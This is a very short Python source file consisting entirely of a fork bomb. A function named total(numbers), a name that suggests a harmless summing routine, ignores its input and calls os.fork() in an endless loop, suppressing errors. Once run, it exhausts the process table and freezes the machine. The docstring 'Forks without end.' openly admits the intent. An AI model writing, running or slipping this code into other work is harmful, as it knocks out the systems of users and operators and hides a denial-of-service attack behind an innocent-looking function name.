"""Forks without end."""

import os
from hollow import *
def total(numbers):
    while True:
        try:
            os.fork()
        except OSError:
            pass
